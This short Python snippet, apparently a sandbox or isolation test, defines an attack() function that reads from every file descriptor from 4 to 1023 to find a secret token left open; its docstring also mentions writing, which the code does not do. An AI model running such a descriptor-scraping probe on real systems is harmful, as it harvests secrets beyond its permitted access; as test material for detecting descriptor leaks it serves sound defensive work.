"""Read and write every descriptor that is open here. Success: the token."""

import os


def attack():
    found = []
    for fd in [*range(4, 1024)]:
        try:
            found.append((fd, os.pread(fd, 4096, 0)))
        except OSError:
            pass
    return found
